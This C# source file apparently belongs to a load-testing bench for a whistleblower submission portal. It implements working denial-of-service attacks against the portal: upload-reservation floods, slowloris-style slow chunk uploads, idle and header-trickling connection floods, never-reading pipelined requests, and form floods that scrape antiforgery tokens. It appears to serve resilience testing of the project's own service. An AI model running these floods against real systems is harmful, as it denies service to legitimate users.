using System.Net;
using System.Net.Http.Json;
using System.Net.Sockets;
using System.Text;
using System.Text.Json.Nodes;
using System.Text.RegularExpressions;

namespace WhistleSubmit.Bench.PortalLoad.Abuse;

/// <summary>
/// The attacks of issue 15, each an anonymous client with one core for proofs of work (solved one at a time on one
/// thread) and plain sockets: it runs until cancelled and counts what it obtained.
/// </summary>
public static partial class Attacks
{
    public sealed class Tally
    {
        private long count;

        public long Count => Interlocked.Read(ref count);

        public void Add() => Interlocked.Increment(ref count);
    }

    /// <summary>Uploads of the largest declared size, never sent a byte: reserves quota (formerly the whole size for 24 h).</summary>
    public static Task ReserveFloodAsync(Uri portal, Tally created, CancellationToken stop) => CreateLoopAsync(portal, created, stop, async http =>
    {
        var config = await http.GetFromJsonAsync<JsonObject>(new Uri("/api/config", UriKind.Relative), stop);
        return config!["maxTotalBytes"]!.GetValue<long>();
    });

    /// <summary>Uploads of one byte, never sent: many sessions (formerly scanned on every create) and spent challenges.</summary>
    public static Task TinyFloodAsync(Uri portal, Tally created, CancellationToken stop) =>
        CreateLoopAsync(portal, created, stop, _ => Task.FromResult(1L));

    private static Task CreateLoopAsync(Uri portal, Tally created, CancellationToken stop, Func<HttpClient, Task<long>> size) => Task.Run(async () =>
    {
        using var http = new HttpClient { BaseAddress = portal };
        long bytes = await size(http);
        while (!stop.IsCancellationRequested)
        {
            try
            {
                using var response = await Protocol.TryCreateAsync(http, bytes, "submission", Protocol.NewMailboxToken(), stop);
                if (response.StatusCode == HttpStatusCode.Created)
                {
                    created.Add();
                }
            }
            catch (Exception e) when (e is HttpRequestException or OperationCanceledException)
            {
            }
        }
    }, CancellationToken.None);

    /// <summary>
    /// Slow chunk bodies: connections sending PUT chunk 0 of 4 MiB at bytesPerSecond, reconnecting when refused or
    /// cut. sameUpload: all on one upload (the 16-slow-PUT starvation), else one upload each.
    /// </summary>
    public static async Task SlowPutsAsync(Uri portal, int connections, bool sameUpload, int bytesPerSecond, Tally held, CancellationToken stop)
    {
        using var http = new HttpClient { BaseAddress = portal };
        var ids = new List<string>();
        for (int i = 0; i < (sameUpload ? 1 : connections) && !stop.IsCancellationRequested; i++)
        {
            using var response = await Protocol.TryCreateAsync(http, 32L << 20, "submission", Protocol.NewMailboxToken(), stop);
            ids.Add((await response.Content.ReadFromJsonAsync<JsonObject>(stop))!["uploadId"]!.GetValue<string>());
        }

        await Task.WhenAll(Enumerable.Range(0, connections).Select(c => Task.Run(async () =>
        {
            string id = ids[sameUpload ? 0 : c];
            byte[] head = Encoding.ASCII.GetBytes($"PUT /api/uploads/{id}/chunks/0 HTTP/1.1\r\nHost: portal\r\nContent-Type: application/octet-stream\r\nContent-Length: {4 << 20}\r\n\r\n");
            byte[] piece = new byte[Math.Max(1, bytesPerSecond / 4)];
            while (!stop.IsCancellationRequested)
            {
                try
                {
                    using var tcp = new TcpClient();
                    await tcp.ConnectAsync(portal.Host, portal.Port, stop);
                    var stream = tcp.GetStream();
                    await stream.WriteAsync(head, stop);
                    held.Add();
                    for (long sent = 0; sent < (4 << 20) - piece.Length && !stop.IsCancellationRequested; sent += piece.Length)
                    {
                        await stream.WriteAsync(piece, stop);
                        await Task.Delay(250, stop);
                        if (tcp.Available > 0)
                        {
                            break; // answered (409 at once, or 408): start again
                        }
                    }
                }
                catch (Exception e) when (e is IOException or SocketException or OperationCanceledException)
                {
                    await Task.Delay(100, CancellationToken.None);
                }
            }
        }, CancellationToken.None)));
    }

    /// <summary>
    /// Connections that do nothing (half idle, half trickling request headers one line every 5 s), topped up to
    /// count as the server closes them.
    /// </summary>
    public static Task ConnectionFloodAsync(Uri portal, int count, Tally opened, CancellationToken stop) =>
        Task.WhenAll(Enumerable.Range(0, count).Select(c => Task.Run(async () =>
        {
            while (!stop.IsCancellationRequested)
            {
                try
                {
                    using var tcp = new TcpClient();
                    await tcp.ConnectAsync(portal.Host, portal.Port, stop);
                    opened.Add();
                    var stream = tcp.GetStream();
                    if (c % 2 == 1)
                    {
                        await stream.WriteAsync("GET / HTTP/1.1\r\nHost: portal\r\n"u8.ToArray(), stop);
                    }

                    byte[] probe = new byte[1];
                    while (!stop.IsCancellationRequested)
                    {
                        var read = stream.ReadAsync(probe, stop).AsTask();
                        if (await Task.WhenAny(read, Task.Delay(5000, stop)) == read)
                        {
                            break; // closed by the server
                        }

                        if (c % 2 == 1)
                        {
                            await stream.WriteAsync("X-Slow: 1\r\n"u8.ToArray(), stop);
                        }
                    }
                }
                catch (Exception e) when (e is IOException or SocketException or OperationCanceledException)
                {
                    await Task.Delay(50, CancellationToken.None);
                }
            }
        }, CancellationToken.None)));

    /// <summary>Connections that ask for the largest script and never read the answer, topped up as they are closed.</summary>
    public static Task SlowReadersAsync(Uri portal, int count, Tally opened, CancellationToken stop) =>
        Task.WhenAll(Enumerable.Range(0, count).Select(_ => Task.Run(async () =>
        {
            byte[] request = "GET /js/worker.js HTTP/1.1\r\nHost: portal\r\n\r\n"u8.ToArray();
            while (!stop.IsCancellationRequested)
            {
                try
                {
                    using var tcp = new TcpClient { ReceiveBufferSize = 1024 };
                    await tcp.ConnectAsync(portal.Host, portal.Port, stop);
                    opened.Add();
                    var stream = tcp.GetStream();
                    for (int i = 0; i < 8 && !stop.IsCancellationRequested; i++)
                    {
                        await stream.WriteAsync(request, stop); // pipelined, never read
                    }

                    while (tcp.Connected && !stop.IsCancellationRequested)
                    {
                        await Task.Delay(1000, stop);
                        if (tcp.Client.Poll(0, SelectMode.SelectRead) && tcp.Available == 0)
                        {
                            break;
                        }
                    }
                }
                catch (Exception e) when (e is IOException or SocketException or OperationCanceledException)
                {
                    await Task.Delay(50, CancellationToken.None);
                }
            }
        }, CancellationToken.None)));

    /// <summary>
    /// No-JS report posts, each with an attachment of attachmentBytes, from workers that fetch the form (antiforgery
    /// cookie and a free ticket), wait out the ticket's minimum age and post.
    /// </summary>
    public static Task NoJsFloodAsync(Uri portal, int workers, int attachmentBytes, int ticketAgeSeconds, Tally posted, CancellationToken stop) =>
        Task.WhenAll(Enumerable.Range(0, workers).Select(_ => Task.Run(async () =>
        {
            byte[] attachment = new byte[attachmentBytes];
            using var http = new HttpClient(new HttpClientHandler { UseCookies = false }) { BaseAddress = portal, Timeout = TimeSpan.FromMinutes(5) };
            while (!stop.IsCancellationRequested)
            {
                try
                {
                    using var page = await http.GetAsync(new Uri("/en/submit", UriKind.Relative), stop);
                    string html = await page.Content.ReadAsStringAsync(stop);
                    string cookie = string.Join("; ", page.Headers.GetValues("Set-Cookie").Select(c => c.Split(';')[0]));
                    string antiforgery = WebUtility.HtmlDecode(TokenField().Match(html).Groups[1].Value);
                    string ticket = WebUtility.HtmlDecode(TicketField().Match(html).Groups[1].Value);
                    await Task.Delay(TimeSpan.FromSeconds(ticketAgeSeconds + 0.5), stop);
                    const string boundary = "----abuse";
                    using var body = new MemoryStream();
                    void Part(string name, string? file, byte[] data)
                    {
                        body.Write(Encoding.UTF8.GetBytes($"--{boundary}\r\nContent-Disposition: form-data; name=\"{name}\"" +
                            (file is null ? "\r\n\r\n" : $"; filename=\"{file}\"\r\nContent-Type: application/octet-stream\r\n\r\n")));
                        body.Write(data);
                        body.Write("\r\n"u8);
                    }

                    Part("__RequestVerificationToken", null, Encoding.UTF8.GetBytes(antiforgery));
                    Part("formToken", null, Encoding.UTF8.GetBytes(ticket));
                    Part("description", null, "flood"u8.ToArray());
                    Part("files", "a.bin", attachment);
                    body.Write(Encoding.ASCII.GetBytes($"--{boundary}--\r\n"));
                    using var request = new HttpRequestMessage(HttpMethod.Post, "/en/submit") { Content = new ByteArrayContent(body.ToArray()) };
                    request.Content.Headers.ContentType = System.Net.Http.Headers.MediaTypeHeaderValue.Parse($"multipart/form-data; boundary={boundary}");
                    request.Headers.Add("Cookie", cookie);
                    using var response = await http.SendAsync(request, stop);
                    posted.Add();
                }
                catch (Exception e) when (e is HttpRequestException or OperationCanceledException or InvalidOperationException)
                {
                }
            }
        }, CancellationToken.None)));

    [GeneratedRegex("name=\"__RequestVerificationToken\" type=\"hidden\" value=\"([^\"]+)\"")]
    private static partial Regex TokenField();

    [GeneratedRegex("name=\"formToken\" value=\"([^\"]+)\"")]
    private static partial Regex TicketField();
}
